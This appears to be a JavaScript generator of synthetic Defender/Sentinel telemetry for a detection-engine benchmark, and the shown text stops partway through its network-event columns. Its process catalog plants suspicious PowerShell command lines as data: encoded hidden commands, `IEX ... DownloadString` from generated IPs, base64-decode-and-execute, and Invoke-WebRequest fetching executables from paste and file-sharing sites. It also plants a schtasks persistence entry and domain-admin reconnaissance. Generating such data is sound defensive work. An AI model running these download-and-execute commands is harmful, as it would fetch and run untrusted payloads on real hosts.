/**
 * Seeded, deterministic generator of Defender/Sentinel-shaped data for the engine benchmark: DeviceProcessEvents
 * (N rows), DeviceNetworkEvents (N/2) and SigninLogs (N/10) over the 30 days before END, written straight into a
 * workspace by DuckDB SQL (hash(i, seed, k) is the only source of randomness, so a seed gives the same rows on
 * every run). Rows are inserted in time order, as events arrive, which gives DuckDB zone maps on the time columns.
 *
 * Shapes that matter for the queries: ~500 devices per million processes (a tenth of them busier), one main user
 * per workstation, system accounts without a UPN, a catalog of ~35 real-looking process command lines with weights
 * (svchost, browsers, Office, Defender's PowerShell, SCCM's `-EncodedCommand`, admin tools, dev tools) and ~0.7%
 * suspicious PowerShell (`-enc`, DownloadString, FromBase64String, Invoke-WebRequest), URLs in command lines for the
 * `extract` query, a skewed set of remote IPs and URLs for network events, sign-in result codes and apps.
 *
 *   node bench/engine/generate.mjs --rows 1000000 --dir DIR [--seed 7]
 */
import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { openWorkspace, tableDefinitionsFromTablesJson } from '../../packages/server/dist/engine/index.js';

/** Bump when the generated data changes, so that old workspaces are regenerated. */
export const GENERATOR_VERSION = 4;
/** The benchmark's "now": every query runs with this now() and the data ends here. */
export const END = '2026-01-01 00:00:00';
export const END_MS = Date.UTC(2026, 0, 1);
const SPAN_US = 30 * 86_400_000_000;
const CHUNK = 1_000_000;

const ROOT = new URL('../../', import.meta.url);

/** A SQL string literal. */
const s = (v) => `'${String(v).replace(/'/g, "''")}'`;
const q = (n) => `"${n.replace(/"/g, '""')}"`;

export async function tableDefinitions() {
  return tableDefinitionsFromTablesJson(
    JSON.parse(await readFile(new URL('content/schema/tables.json', ROOT), 'utf8')),
  );
}

/** Reuses `dir` when it already holds this generator's data for the same size and seed. */
export async function ensureData({ dir, rows, seed = 7, log = () => {} }) {
  const marker = join(dir, 'bench-data.json');
  if (existsSync(marker)) {
    const m = JSON.parse(await readFile(marker, 'utf8'));
    if (m.rows === rows && m.seed === seed && m.version === GENERATOR_VERSION) return m;
    throw new Error(`${dir} holds other benchmark data (${JSON.stringify(m)}); use another --dir`);
  }
  return generate({ dir, rows, seed, log });
}

export async function generate({ dir, rows, seed = 7, log = () => {} }) {
  const defs = await tableDefinitions();
  const engine = await openWorkspace(dir, { threads: 2 });
  const storage = {};
  for (const name of ['DeviceProcessEvents', 'DeviceNetworkEvents', 'SigninLogs']) {
    storage[name] = await engine.ensureTable(defs.find((d) => d.name === name));
  }
  await engine.close();

  const N = rows;
  const sizes = {
    DeviceProcessEvents: N,
    DeviceNetworkEvents: Math.round(N / 2),
    SigninLogs: Math.round(N / 10),
  };
  const devices = Math.max(50, Math.round(N / 2000));
  const users = Math.max(100, Math.round(N / 500));
  const ctx = { seed, devices, users };

  const db = await DuckDBInstance.create(join(dir, 'workspace.duckdb'), { threads: '2' });
  const c = await db.connect();
  const builders = {
    DeviceProcessEvents: processEventsSql,
    DeviceNetworkEvents: networkEventsSql,
    SigninLogs: signinLogsSql,
  };
  for (const [table, build] of Object.entries(builders)) {
    const t0 = performance.now();
    // One INSERT per million rows: a single statement for 10M rows of command lines ran 20× longer (memory).
    for (let from = 0; from < sizes[table]; from += CHUNK) {
      const to = Math.min(sizes[table], from + CHUNK);
      await c.run(build(storage[table], sizes[table], ctx, from, to));
    }
    log(`  ${table}: ${sizes[table].toLocaleString()} rows in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  }
  await c.run('CHECKPOINT');
  c.closeSync();
  db.closeSync();
  const meta = { version: GENERATOR_VERSION, rows: N, seed, sizes, devices, users, end: END };
  await writeFile(join(dir, 'bench-data.json'), `${JSON.stringify(meta, null, 2)}\n`);
  return meta;
}

// ───────────────────────────── shared vocabulary ─────────────────────────────

const FIRST =
  `James Mary Robert Patricia John Jennifer Michael Linda David Elizabeth William Barbara Richard Susan Joseph
Jessica Thomas Sarah Charles Karen Christopher Lisa Daniel Nancy Matthew Betty Anthony Sandra Mark Margaret Donald Ashley
Steven Kimberly Andrew Emily Paul Donna Joshua Michelle Kenneth Carol Kevin Amanda Brian Melissa George Deborah Timothy
Stephanie Priya Wei Yuki Omar Fatima Lars Ingrid Mateo Sofia Noam Aisha`.split(/\s+/);
const LAST = `Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez Lopez Gonzalez Wilson
Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson White Harris Sanchez Clark Ramirez Lewis Robinson Walker
Young Allen King Wright Scott Torres Nguyen Hill Flores Green Adams Nelson Baker Hall Rivera Campbell Mitchell Carter
Roberts Patel Chen Tanaka Haddad Larsen Cohen Okafor Novak`.split(/\s+/);
const DEPTS = ['fin', 'hr', 'eng', 'sales', 'ops', 'it', 'legal', 'mkt'];
const SERVER_ROLES = ['sql', 'web', 'app', 'file', 'exch', 'build'];
const URL_DOMAINS = [
  'github.com',
  'raw.githubusercontent.com',
  'objects.githubusercontent.com',
  'pypi.org',
  'files.pythonhosted.org',
  'download.microsoft.com',
  'go.microsoft.com',
  'aka.ms',
  'oneclient.sfx.ms',
  'dl.google.com',
  'download.sysinternals.com',
  'updates.contoso.com',
  'cdn.contoso-cdn.com',
  'nexus.contoso.local',
  'pastebin.com',
  'transfer.sh',
  'files.catbox.moe',
  'cdn-update-check.top',
  'ngrok-free.app',
  'storage.googleapis.com',
];
const SUSPICIOUS_DOMAINS = [
  'pastebin.com',
  'transfer.sh',
  'files.catbox.moe',
  'cdn-update-check.top',
  'ngrok-free.app',
];

/** `list[1 + (h % len)]` as SQL. */
function pick(list, h) {
  return `[${list.map(s).join(', ')}][1 + ((${h}) % ${list.length})::BIGINT]`;
}

/** The seeded hash of row `i` for purpose `k` (a UBIGINT). */
const H = (seed, k) => `hash(i, ${seed}, ${k})`;

/** SQL for user `u`'s names (first.last[n]@contoso.com, flast[n]). */
function userNames(u) {
  const first = `[${FIRST.map(s).join(', ')}][1 + (${u} % ${FIRST.length})::BIGINT]`;
  // (u // F + 17u) mod L is a bijection of u // F for a fixed u mod F: names stay unique, and varied.
  const last = `[${LAST.map(s).join(', ')}][1 + ((${u} // ${FIRST.length} + 17 * ${u}) % ${LAST.length})::BIGINT]`;
  const n = `(${u} // ${FIRST.length * LAST.length})`;
  const suffix = `CASE WHEN ${n} = 0 THEN '' ELSE ${n}::VARCHAR END`;
  return {
    display: `${first} || ' ' || ${last}`,
    upn: `lower(${first} || '.' || ${last} || ${suffix}) || '@contoso.com'`,
    account: `lower(left(${first}, 1) || ${last} || ${suffix})`,
    sid: `'S-1-5-21-1004336348-1177238915-682003330-' || (1000 + ${u})::VARCHAR`,
  };
}

function deviceName(d) {
  return `CASE WHEN ${d} % 53 = 1 THEN 'dc-' || lpad((${d} % 9 + 1)::VARCHAR, 2, '0')
    WHEN ${d} % 11 = 0 THEN 'srv-' || ${pick(SERVER_ROLES, d)} || '-' || lpad((${d} // 11)::VARCHAR, 3, '0')
    ELSE 'wks-' || ${pick(DEPTS, d)} || '-' || lpad(${d}::VARCHAR, 4, '0') END || '.contoso.local'`;
}

/** A 40-hex-digit id (DeviceId-like) from a seed expression. */
const hex40 = (x) => `md5(${x}) || left(md5('x' || ${x}), 8)`;

// ───────────────────────────── DeviceProcessEvents ─────────────────────────────

/**
 * The process catalog: weight (per 10,000), file name, folder, who runs it, and the command line as SQL over the
 * row's variables (acct, n = a per-row number, hx = a per-row hex string, b64 = base64 text, dom = a URL domain).
 */
function processCatalog() {
  const userDir = `'C:\\Users\\' || acct`;
  return [
    {
      w: 1500,
      file: 'svchost.exe',
      folder: 'C:\\Windows\\System32\\svchost.exe',
      runAs: 'system',
      parent: 'services.exe',
      cmd: `'C:\\Windows\\system32\\svchost.exe -k ' || ${pick(['netsvcs -p -s Schedule', 'LocalServiceNetworkRestricted -p -s Dhcp', 'NetworkService -p -s Dnscache', 'DcomLaunch -p', 'LocalSystemNetworkRestricted -p -s SysMain', 'wsappx -p -s AppXSvc', 'LocalService -p -s BthAvctpSvc', 'netsvcs -p -s BITS', 'UnistackSvcGroup', 'RPCSS -p'], 'n')}`,
    },
    {
      w: 1300,
      file: 'chrome.exe',
      folder: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      runAs: 'user',
      parent: 'chrome.exe',
      cmd: `'"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=' || ${pick(['renderer', 'gpu-process', 'utility --utility-sub-type=network.mojom.NetworkService', 'crashpad-handler'], 'n')} || ' --lang=en-US --field-trial-handle=' || (n % 9000 + 1000)::VARCHAR || ',i,' || left(hx, 16) || ',' || right(hx, 16) || ',262144 --mojo-platform-channel-handle=' || (n % 5000 + 1000)::VARCHAR || ' /prefetch:' || (n % 8 + 1)::VARCHAR`,
    },
    {
      w: 800,
      file: 'msedge.exe',
      folder: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
      runAs: 'user',
      parent: 'msedge.exe',
      cmd: `'"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=2 --renderer-client-id=' || (n % 400)::VARCHAR || ' --field-trial-handle=' || (n % 9000 + 1000)::VARCHAR || ',i,' || left(hx, 16) || ' /prefetch:1'`,
    },
    {
      w: 600,
      file: 'conhost.exe',
      folder: 'C:\\Windows\\System32\\conhost.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `'\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'`,
    },
    {
      w: 500,
      file: 'Teams.exe',
      folder: 'C:\\Users\\acct\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
      runAs: 'user',
      parent: 'Teams.exe',
      cmd: `'"' || ${userDir} || '\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe" --type=renderer --autoplay-policy=no-user-gesture-required --disable-background-timer-throttling --enable-features=SharedArrayBuffer --service-pipe-token=' || upper(left(hx, 32))`,
    },
    {
      w: 400,
      file: 'SearchProtocolHost.exe',
      folder: 'C:\\Windows\\System32\\SearchProtocolHost.exe',
      runAs: 'system',
      parent: 'SearchIndexer.exe',
      cmd: `'"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe' || (n % 300)::VARCHAR || '_ Global\\UsGthrCtrlFltPipeMssGthrPipe' || (n % 300)::VARCHAR || ' 1 -2147483646 "Software\\Microsoft\\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon"'`,
    },
    {
      w: 300,
      file: 'OneDrive.exe',
      folder: 'C:\\Users\\acct\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `CASE WHEN n % 10 = 0 THEN '"' || ${userDir} || '\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /updateInstalled /url https://oneclient.sfx.ms/Win/Prod/24.' || (n % 250)::VARCHAR || '/OneDriveSetup.exe' ELSE '"' || ${userDir} || '\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background' END`,
    },
    {
      w: 300,
      file: 'taskhostw.exe',
      folder: 'C:\\Windows\\System32\\taskhostw.exe',
      runAs: 'user',
      parent: 'svchost.exe',
      cmd: `'taskhostw.exe ' || ${pick(['KEYROAMING', 'Install $(Arg0)', 'NGCKeyPregen', '-RegisterDevice -ProtectionStateChanged -FreeNetworkOnly'], 'n')}`,
    },
    {
      w: 450,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'system',
      parent: 'SenseIR.exe',
      cmd: `'powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open(''C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\' || (8000 + n % 900)::VARCHAR || '.' || (n % 9999999)::VARCHAR || '\\' || hx || '.ps1'', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read);$calculatedHash = Microsoft.PowerShell.Utility\\Get-FileHash ''C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\DataCollection\\' || hx || '.ps1'' -Algorithm SHA256;}"'`,
    },
    {
      w: 120,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'system',
      parent: 'CcmExec.exe',
      // SCCM's encoded scripts: `-EncodedCommand` is not the term `-enc`.
      cmd: `'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoLogo -Noninteractive -NoProfile -ExecutionPolicy Bypass -EncodedCommand ' || b64`,
    },
    {
      w: 150,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `${pick(['powershell.exe -NoLogo -NonInteractive -File C:\\Scripts\\Inventory.ps1', "powershell.exe Get-Service | Where-Object {$_.Status -eq 'Running'}", 'powershell.exe -Command Get-ChildItem -Path C:\\Temp -Recurse | Remove-Item -Force', 'powershell.exe -Command "Test-NetConnection nexus.contoso.local -Port 443"', 'pwsh.exe -NoProfile -Command Import-Module Az; Connect-AzAccount -Identity'], 'n')}`,
    },
    {
      w: 450,
      file: 'cmd.exe',
      folder: 'C:\\Windows\\System32\\cmd.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `${pick(['cmd.exe /c "C:\\Windows\\system32\\ipconfig.exe /all"', 'cmd /c echo %USERNAME% > C:\\Temp\\who.txt', 'C:\\Windows\\system32\\cmd.exe /d /c "C:\\Program Files\\nodejs\\npm.cmd" run build', 'cmd.exe /c del /q C:\\Windows\\Temp\\*.tmp', 'C:\\Windows\\system32\\cmd.exe /c ""C:\\Program Files\\Git\\cmd\\git.exe" status"', 'cmd.exe /c net use Z: \\\\fs01.contoso.local\\share /persistent:no'], 'n')}`,
    },
    {
      w: 200,
      file: 'rundll32.exe',
      folder: 'C:\\Windows\\System32\\rundll32.exe',
      runAs: 'user',
      parent: 'svchost.exe',
      cmd: `${pick(['rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6} -Embedding', 'rundll32.exe C:\\Windows\\System32\\LogiLDA.dll,LogiFetch', 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask', 'rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh'], 'n')}`,
    },
    {
      w: 150,
      file: 'msiexec.exe',
      folder: 'C:\\Windows\\System32\\msiexec.exe',
      runAs: 'system',
      parent: 'services.exe',
      cmd: `CASE WHEN n % 3 = 0 THEN 'C:\\Windows\\system32\\msiexec.exe /i https://' || ${pick(['download.microsoft.com', 'cdn.contoso-cdn.com', 'dl.google.com'], 'n')} || '/agent/' || left(hx, 8) || '/setup.msi /qn /norestart' ELSE 'C:\\Windows\\system32\\msiexec.exe /V' END`,
    },
    {
      w: 250,
      file: 'OUTLOOK.EXE',
      folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" ' || ${pick(['/recycle', '', '/embedding', '/select outlook:inbox'], 'n')}`,
    },
    {
      w: 150,
      file: 'WINWORD.EXE',
      folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "' || ${userDir} || '\\Documents\\' || ${pick(['Report', 'Minutes', 'Proposal', 'Contract', 'Invoice'], 'n')} || '-' || (n % 1000)::VARCHAR || '.docx" /o ""'`,
    },
    {
      w: 150,
      file: 'EXCEL.EXE',
      folder: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "' || ${userDir} || '\\Downloads\\Budget_Q' || (n % 4 + 1)::VARCHAR || '.xlsx"'`,
    },
    {
      w: 150,
      file: 'git.exe',
      folder: 'C:\\Program Files\\Git\\cmd\\git.exe',
      runAs: 'user',
      parent: 'Code.exe',
      cmd: `CASE WHEN n % 4 = 0 THEN 'git.exe clone https://github.com/contoso/' || ${pick(['portal', 'billing-api', 'infra', 'mobile-app', 'data-pipeline'], 'n')} || '.git' ELSE 'git.exe ' || ${pick(['fetch --all --prune', 'status --porcelain', 'pull --rebase', 'log -n 20 --oneline'], 'n')} END`,
    },
    {
      w: 150,
      file: 'Code.exe',
      folder: 'C:\\Users\\acct\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'"' || ${userDir} || '\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --field-trial-handle=' || (n % 9000)::VARCHAR`,
    },
    {
      w: 100,
      file: 'python.exe',
      folder: 'C:\\Program Files\\Python312\\python.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `'python.exe -m pip install --upgrade ' || ${pick(['requests', 'pandas', 'numpy', 'boto3', 'azure-identity'], 'n')} || ' --index-url https://pypi.org/simple --trusted-host files.pythonhosted.org'`,
    },
    {
      w: 60,
      file: 'curl.exe',
      folder: 'C:\\Windows\\System32\\curl.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `'curl.exe -sSL https://' || dom || '/' || left(hx, 10) || '/install.ps1 -o ' || ${userDir} || '\\Downloads\\install.ps1'`,
    },
    {
      w: 200,
      file: 'MsMpEng.exe',
      folder: 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe',
      runAs: 'system',
      parent: 'services.exe',
      cmd: `'"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"'`,
    },
    {
      w: 150,
      file: 'explorer.exe',
      folder: 'C:\\Windows\\explorer.exe',
      runAs: 'user',
      parent: 'userinit.exe',
      cmd: `'C:\\Windows\\Explorer.EXE'`,
    },
    {
      w: 60,
      file: 'net.exe',
      folder: 'C:\\Windows\\System32\\net.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `${pick(['net.exe user /domain', 'net.exe group "Domain Admins" /domain', 'net.exe localgroup administrators', 'net.exe use'], 'n')}`,
    },
    {
      w: 40,
      file: 'whoami.exe',
      folder: 'C:\\Windows\\System32\\whoami.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `${pick(['whoami.exe /all', 'whoami.exe /priv', 'whoami'], 'n')}`,
    },
    {
      w: 40,
      file: 'schtasks.exe',
      folder: 'C:\\Windows\\System32\\schtasks.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `CASE WHEN n % 5 = 0 THEN 'schtasks.exe /create /tn "OneDrive Updater" /tr "C:\\Users\\Public\\updater.exe" /sc hourly /f' ELSE 'schtasks.exe /query /fo LIST /v' END`,
    },
    {
      w: 40,
      file: 'reg.exe',
      folder: 'C:\\Windows\\System32\\reg.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `'reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'`,
    },
    {
      w: 25,
      file: 'wscript.exe',
      folder: 'C:\\Windows\\System32\\wscript.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'"C:\\Windows\\System32\\WScript.exe" "' || ${userDir} || '\\Downloads\\Invoice_' || (n % 100000)::VARCHAR || '.js"'`,
    },
    {
      w: 25,
      file: 'cscript.exe',
      folder: 'C:\\Windows\\System32\\cscript.exe',
      runAs: 'system',
      parent: 'cmd.exe',
      cmd: `'cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dlv'`,
    },
    // Suspicious PowerShell: the seed detection's four terms.
    {
      w: 20,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'user',
      parent: 'WINWORD.EXE',
      cmd: `'powershell.exe -NoP -NonI -W Hidden -enc ' || b64`,
    },
    {
      w: 10,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'user',
      parent: 'cmd.exe',
      cmd: `'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(''http://' || ip || '/' || left(hx, 6) || '.ps1'')"'`,
    },
    {
      w: 10,
      file: 'powershell.exe',
      folder: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      runAs: 'user',
      parent: 'wscript.exe',
      cmd: `'powershell.exe -c "$s=[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(''' || b64 || '''));iex $s"'`,
    },
    {
      w: 20,
      file: 'pwsh.exe',
      folder: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
      runAs: 'user',
      parent: 'explorer.exe',
      cmd: `'pwsh.exe -c "Invoke-WebRequest -Uri https://' || ${pick(SUSPICIOUS_DOMAINS, 'n')} || '/' || left(hx, 8) || ' -OutFile $env:TEMP\\' || left(hx, 5) || '.exe"'`,
    },
    {
      w: 10,
      file: 'cmd.exe',
      folder: 'C:\\Windows\\System32\\cmd.exe',
      runAs: 'user',
      parent: 'EXCEL.EXE',
      cmd: `'cmd.exe /c powershell -w hidden -enc ' || b64`,
    },
  ];
}

/** A folder path as SQL; `\\acct\\` stands for the account's profile folder. */
function folderSql(folder) {
  const at = folder.indexOf('\\acct\\');
  if (at < 0) return s(folder);
  return `${s(folder.slice(0, at + 1))} || acct || ${s(folder.slice(at + 5))}`;
}

function processEventsSql(table, rows, { seed, devices, users }, from, to) {
  const catalog = processCatalog();
  const used = catalog.reduce((a, p) => a + p.w, 0);
  if (used > 10000) throw new Error(`process weights add up to ${used}`);
  catalog[0].w += 10000 - used; // svchost takes the rest
  let acc = 0;
  const branch = (field) =>
    `CASE ${catalog
      .map((p) => {
        acc += p.w;
        return `WHEN r < ${acc} THEN ${field(p)}`;
      })
      .join(' ')} END`;
  const resetAcc = (f) => {
    acc = 0;
    return branch(f);
  };
  const col = (n) => q(table.columns.find((c) => c.name === n).storageName);
  const u = userNames('u');
  const system = `CASE WHEN n % 3 = 0 THEN 'local service' WHEN n % 3 = 1 THEN 'network service' ELSE 'system' END`;
  const systemSid = `CASE WHEN n % 3 = 0 THEN 'S-1-5-19' WHEN n % 3 = 1 THEN 'S-1-5-20' ELSE 'S-1-5-18' END`;
  const isSystem = resetAcc((p) => (p.runAs === 'system' ? 'true' : 'false'));
  const columns = {
    Timestamp: 'ts',
    TimeGenerated: 'ts',
    DeviceId: hex40(`'dev' || d::VARCHAR`),
    DeviceName: deviceName('d'),
    ActionType: `'ProcessCreated'`,
    FileName: 'file',
    FolderPath: resetAcc((p) => folderSql(p.folder)),
    SHA1: `left(sha256(file || 'sha1'), 40)`,
    SHA256: `sha256(file)`,
    MD5: `md5(file)`,
    FileSize: `(hash(file) % 5000000 + 20000)::BIGINT`,
    ProcessId: `(n % 60000 + 4)::BIGINT`,
    ProcessCommandLine: 'cmd',
    ProcessIntegrityLevel: `CASE WHEN sys THEN 'System' ELSE 'Medium' END`,
    ProcessTokenElevation: `CASE WHEN sys THEN 'TokenElevationTypeDefault' ELSE 'TokenElevationTypeLimited' END`,
    ProcessCreationTime: 'ts',
    AccountDomain: `CASE WHEN sys THEN 'nt authority' ELSE 'contoso' END`,
    AccountName: `CASE WHEN sys THEN ${system} ELSE ${u.account} END`,
    AccountSid: `CASE WHEN sys THEN ${systemSid} ELSE ${u.sid} END`,
    AccountUpn: `CASE WHEN sys THEN '' ELSE ${u.upn} END`,
    LogonId: `(hash(d, u) % 1000000)::BIGINT`,
    InitiatingProcessAccountDomain: `CASE WHEN sys THEN 'nt authority' ELSE 'contoso' END`,
    InitiatingProcessAccountName: `CASE WHEN sys THEN ${system} ELSE ${u.account} END`,
    InitiatingProcessFileName: resetAcc((p) => s(p.parent)),
    InitiatingProcessId: `(hash(n) % 60000 + 4)::BIGINT`,
    InitiatingProcessCommandLine: resetAcc((p) => s(p.parent)),
    InitiatingProcessCreationTime: `ts - to_microseconds((hash(n, 1) % 3600000000)::BIGINT)`,
    ReportId: 'i::BIGINT',
    TenantId: `'4f6c1f2e-2b6a-4c41-9f39-7d8c1a0e5b11'`,
    SourceSystem: `''`,
    MachineGroup: `CASE WHEN d % 11 = 0 THEN 'Servers' ELSE 'Workstations' END`,
    Type: `'DeviceProcessEvents'`,
  };
  const cmd = resetAcc((p) => p.cmd);
  const file = resetAcc((p) => s(p.file));
  const names = Object.keys(columns);
  return `INSERT INTO ${q(table.storageName)} (${names.map(col).join(', ')}, "__ingestion_time", "__batch_id")
    SELECT ${names.map((n) => columns[n]).join(', ')}, TIMESTAMP '${END}', 1
    FROM (
      SELECT *, ${cmd} AS cmd
      FROM (
        SELECT *, ${file} AS file, ${isSystem} AS sys, ${u.account} AS acct
        FROM (
        -- A workstation's events are mostly its main user's.
        SELECT *, CASE WHEN own < 85 THEN (d * 7919) % ${users} ELSE hash(i, ${seed}, 13) % ${users} END AS u
        FROM (
          SELECT i, TIMESTAMP '${END}' - INTERVAL 30 DAY + to_microseconds((i * ${SPAN_US}::HUGEINT // ${rows})::BIGINT) AS ts,
            CASE WHEN ${H(seed, 1)} % 10 < 3 THEN ${H(seed, 2)} % ${Math.max(1, Math.round(devices / 10))} ELSE ${H(seed, 2)} % ${devices} END AS d,
            ${H(seed, 3)} % 10000 AS r,
            ${H(seed, 4)} AS n,
            md5(${H(seed, 5)}::VARCHAR) AS hx,
            to_base64(encode(md5(${H(seed, 6)}::VARCHAR) || md5(${H(seed, 7)}::VARCHAR))) AS b64,
            ${pick(URL_DOMAINS, H(seed, 8))} AS dom,
            '185.' || (${H(seed, 9)} % 200 + 10)::VARCHAR || '.' || (${H(seed, 10)} % 250)::VARCHAR || '.' || (${H(seed, 11)} % 250 + 1)::VARCHAR AS ip,
            ${H(seed, 12)} % 100 AS own
          FROM range(${from}, ${to}) t(i)
        ) base
      ))
    )`;
}

// ───────────────────────────── DeviceNetworkEvents ─────────────────────────────

const REMOTE_URLS = [
  'login.microsoftonline.com',
  'outlook.office365.com',
  'teams.microsoft.com',
  'graph.microsoft.com',
  'www.google.com',
  'clients4.google.com',
  'update.googleapis.com',
  'github.com',
  'api.github.com',
  'objects.githubusercontent.com',
  'contoso.sharepoint.com',
  'contoso-my.sharepoint.com',
  'settings-win.data.microsoft.com',
  'v10.events.data.microsoft.com',
  'winatp-gw-eus.microsoft.com',
  'ctldl.windowsupdate.com',
  'slack.com',
  'zoom.us',
  'www.linkedin.com',
  'cdn.contoso-cdn.com',
  'pypi.org',
  'registry.npmjs.org',
  'pastebin.com',
  'transfer.sh',
  'cdn-update-check.top',
];

function networkEventsSql(table, rows, { seed, devices, users }, from, to) {
  const col = (n) => q(table.columns.find((c) => c.name === n).storageName);
  const u = userNames('u');
  const procs = [
    'chrome.exe',
    'msedge.exe',
    'svchost.exe',
    'Teams.exe',
    'OUTLOOK.EXE',
    'OneDrive.exe',
    'MsSense.exe',
    'powershell.exe',
    'python.exe',
    'git.exe',
  ];
  const columns = {
    Timestamp: 'ts',
    TimeGenerated: 'ts',
    DeviceId: hex40(`'dev' || d::VARCHAR`),
    DeviceName: deviceName('d'),
    ActionType: `CASE WHEN r < 70 THEN 'ConnectionSuccess' WHEN r < 80 THEN 'ConnectionFailed' WHEN r < 90 THEN 'InboundConnectionAccepted' WHEN r < 95 THEN 'ConnectionAttempt' ELSE 'ListeningConnectionCreated' END`,
    RemoteIP: `CASE WHEN k < 15 THEN '10.' || (k * 7 % 250)::VARCHAR || '.' || (n % 250)::VARCHAR || '.' || (n % 200 + 1)::VARCHAR
      WHEN k < 85 THEN ${pick(['20.190.151.', '52.96.166.', '13.107.42.', '142.250.185.', '140.82.112.', '52.109.12.', '104.18.32.', '151.101.1.'], 'k')} || (k * 13 % 200 + 1)::VARCHAR
      ELSE (n % 200 + 20)::VARCHAR || '.' || (n // 200 % 250)::VARCHAR || '.' || (n // 50000 % 250)::VARCHAR || '.' || (n % 251)::VARCHAR END`,
    RemotePort: `CASE WHEN k < 15 THEN ${pick(['445', '135', '389', '88', '3389', '53'], 'n')} WHEN k < 85 THEN ${pick(['443', '443', '443', '80'], 'n')} ELSE ${pick(['443', '8080', '22', '4444', '8443'], 'n')} END::INTEGER`,
    RemoteUrl: `CASE WHEN k >= 15 AND k < 85 THEN ${pick(REMOTE_URLS, 'k * 31 + n % 3')} ELSE '' END`,
    LocalIP: `'10.1.' || (d // 250)::VARCHAR || '.' || (d % 250 + 1)::VARCHAR`,
    LocalPort: `(n % 16384 + 49152)::INTEGER`,
    Protocol: `CASE WHEN n % 20 = 0 THEN 'Udp' ELSE 'Tcp' END`,
    LocalIPType: `'Private'`,
    RemoteIPType: `CASE WHEN k < 15 THEN 'Private' ELSE 'Public' END`,
    InitiatingProcessFileName: `${pick(procs, 'n // 7')}`,
    InitiatingProcessCommandLine: `${pick(procs, 'n // 7')}`,
